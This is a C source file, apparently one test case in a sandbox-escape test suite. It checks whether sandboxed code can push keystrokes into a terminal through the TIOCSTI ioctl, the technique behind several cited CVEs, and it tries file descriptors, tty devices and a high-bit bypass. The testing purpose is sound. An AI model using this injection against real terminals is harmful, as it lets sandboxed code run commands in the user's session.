// title: types into the terminal that it was started from
// source: CVE-2017-5226 (bubblewrap) and CVE-2016-7545 (SELinux sandbox), TIOCSTI; with high bits set, CVE-2019-10063
// twin: yes
// twin-if: /proc/sys/dev/tty/legacy_tiocsti in 1 -
#include <stdint.h>

#include "attack.h"

static int typed(int terminal) {
    return ioctl(terminal, TIOCSTI, "x") == 0
        || syscall(SYS_ioctl, terminal, (uint64_t)TIOCSTI | 0x100000000, "x") == 0;
}

ATTACK(type_into_terminal) {
    const char *paths[] = {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/pts/0", "/dev/pts/1"};
    for (int open_now = 0; open_now < 10; open_now++)
        if (typed(open_now)) {
            through("descriptor %d", open_now);
            return;
        }
    // The twin has no terminal either: outside, where the canaries are, it makes one and types into that.
    if (access(canary.folder, F_OK) == 0) {
        setsid();
        int end = posix_openpt(O_RDWR);
        if (grantpt(end) == 0 && unlockpt(end) == 0) ioctl(open(ptsname(end), O_RDWR), TIOCSCTTY, 0);
    }
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
        int terminal = open(paths[i], O_RDWR);
        if (terminal >= 0 && typed(terminal)) {
            through("%s", paths[i]);
            return;
        }
    }
    held("%s", strerror(errno));
}
